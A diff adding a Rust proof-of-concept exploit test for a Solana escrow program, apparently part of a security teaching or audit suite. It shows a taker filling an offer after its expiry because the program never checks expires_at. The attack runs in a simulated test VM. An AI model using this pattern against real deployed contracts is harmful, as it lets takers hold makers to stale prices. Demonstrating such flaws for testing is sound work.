@@ -0,0 +1,113 @@
+// Exploit: Expired Offer Taken (Expiration Never Enforced)
+//
+// Vulnerability: TakeOffer reads the offer's expires_at but never compares it to the clock.
+// Attack: Taker waits until after the deadline and fills the offer anyway.
+// Result: The maker is held to a stale price they only agreed to for a limited time.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    spl_token::state::Account as TokenAccount,
+    get_spl_account,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    signature::Signer,
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use spl_associated_token_account::get_associated_token_address;
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+struct ExpiredTake;
+
+impl ExploitScenario for ExpiredTake {
+    type State = EscrowScenario;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Expired Offer Taken - Expiration Never Enforced",
+            severity: Severity::High,
+            lesson: "Reject TakeOffer once the clock is past the offer's expires_at",
+        }
+    }
+
+    fn setup(&self) -> EscrowScenario {
+        println!("[Scenario] Taker fills an offer one day after it expired");
+
+        let mut scenario = setup_escrow_scenario();
+
+        // Create the offer (expires in OFFER_DURATION_SECONDS)
+        create_offer(
+            &mut scenario.svm,
+            &scenario.proposer,
+            &scenario.mint_a,
+            &scenario.mint_b,
+            &scenario.proposer_ata_a,
+            &scenario.offer_pda,
+            &scenario.vault_ata,
+            scenario.offer_id,
+            scenario.bump,
+        );
+        println!("[Setup] Offer created, expires in {} seconds", OFFER_DURATION_SECONDS);
+        scenario
+    }
+
+    fn exploit(&self, scenario: &mut EscrowScenario) -> TransactionResult {
+        // Move well past the deadline
+        advance_time(&mut scenario.svm, OFFER_DURATION_SECONDS + 24 * 60 * 60);
+        println!("[Attack] Clock advanced one day past the deadline");
+
+        let proposer_ata_b = get_associated_token_address(&scenario.proposer.pubkey(), &scenario.mint_b);
+
+        let take_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.taker.pubkey(), true),
+                AccountMeta::new(scenario.proposer.pubkey(), false),
+                AccountMeta::new(proposer_ata_b, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.taker_ata_a, false),
+                AccountMeta::new(scenario.taker_ata_b, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_take_offer_data(),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[take_ix],
+            Some(&scenario.taker.pubkey()),
+            &[&scenario.taker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        println!("[Attack] Sending TakeOffer on the expired offer...");
+        scenario.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, scenario: &mut EscrowScenario) -> u64 {
+        println!("[VULNERABLE] Transaction accepted by escrow program!");
+
+        let taker_a_after: TokenAccount = get_spl_account(&scenario.svm, &scenario.taker_ata_a)
+            .expect("Taker ATA A should exist");
+        assert_eq!(taker_a_after.amount, TOKEN_A_OFFER_AMOUNT);
+        println!("[Result] Taker received {} Token A after the deadline", taker_a_after.amount);
+
+        println!("[EXPLOIT SUCCESS] Expired offer filled at the stale price!");
+        taker_a_after.amount
+    }
+}
+
+#[test]
+fn test_exploit_expired_take() {
+    run_exploit(&ExpiredTake);
+}